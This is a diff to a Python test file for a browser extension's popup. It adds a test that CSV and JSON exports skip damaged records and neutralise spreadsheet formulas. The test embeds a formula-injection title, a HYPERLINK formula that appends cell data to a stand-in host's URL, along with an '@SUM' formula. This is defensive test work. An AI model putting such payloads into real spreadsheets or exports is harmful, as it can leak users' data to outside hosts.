@@ -1,11 +1,14 @@
 """The popup as a user reads and operates it: units that fit tiny and huge figures, a fresh install,
 the tabs and the clear-data confirmation by keyboard (WAI-ARIA tabs pattern), the chart's text
-alternative, and layout at the popup's width. Records are written in the stored format (lib/store.js)
+alternative, layout at the popup's width, and exports a spreadsheet cannot be tricked by. Records are written in the stored format (lib/store.js)
 under the current settings' impact key, so the worker has nothing to recompute.
 """
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import re
 import time
 import uuid
@@ -186,3 +189,39 @@ def test_long_titles_and_the_settings_form_fit_the_popup(clean: Harness):
     assert not popup.evaluate(sideways)
     box = popup.locator("#region").bounding_box()
     assert box["x"] + box["width"] <= WIDTH
+
+
+# a spreadsheet runs a cell starting with = + - @ as a formula; quotes and a line break must survive
+FORMULA_TITLE = '=HYPERLINK("https://example.test/?"&A1,"click")\nsecond "line"'
+
+
+def test_exports_neutralise_formulas_and_skip_records_the_popup_cannot_read(clean: Harness):
+    """A stored record with no model or a time no Date can hold is skipped and reported like any damaged
+    one: the table and both exports still show every other record (they used to stop at it)."""
+    now = time.time() * 1000
+    ids = store(clean, [("chatgpt", FORMULA_TITLE, [(now - 2, 1.0), (now - 1, 2.0)]),
+                        ("gemini", "@SUM(1+1)", [(now, 3.0)])])
+    key = f"conv:chatgpt:{ids[FORMULA_TITLE]}"
+    doc = clean.local(key)
+    good = doc["exchanges"]
+    no_model = {k: v for k, v in {**good[0], "id": "chatgpt:x:8", "gen": "g8"}.items() if k != "model"}
+    far = {**good[1], "id": "chatgpt:x:9", "gen": "g9", "time": 1e17}
+    clean.set_local({key: {**doc, "exchanges": [*good, no_model, far]}})
+    clean.message("reindex")
+    popup = clean.popup()
+    assert popup.locator("[data-testid='storage-notice']").get_attribute("data-skipped") == "2"
+    assert popup.locator("[data-testid='totals']").get_attribute("data-exchanges") == "3"
+    conv = row(popup, ids[FORMULA_TITLE])
+    assert conv.locator(".title").text_content() == FORMULA_TITLE
+    conv.locator("summary").click()
+    wait_for(lambda: conv.locator("[data-testid='exchange']").count() == 2, 10, "the table of the readable records")
+    with popup.expect_download() as dl:
+        popup.click("#export-csv")
+    rows = list(csv.DictReader(io.StringIO(open(dl.value.path(), encoding="utf-8", newline="").read())))
+    assert len(rows) == 3
+    titles = {r["platform"]: r["title"] for r in rows}
+    assert titles == {"chatgpt": "'" + FORMULA_TITLE, "gemini": "'@SUM(1+1)"}
+    with popup.expect_download() as dl:
+        popup.click("#export-json")
+    exported = json.loads(open(dl.value.path(), encoding="utf-8").read())
+    assert sorted(len(c["exchanges"]) for c in exported["conversations"]) == [1, 2]
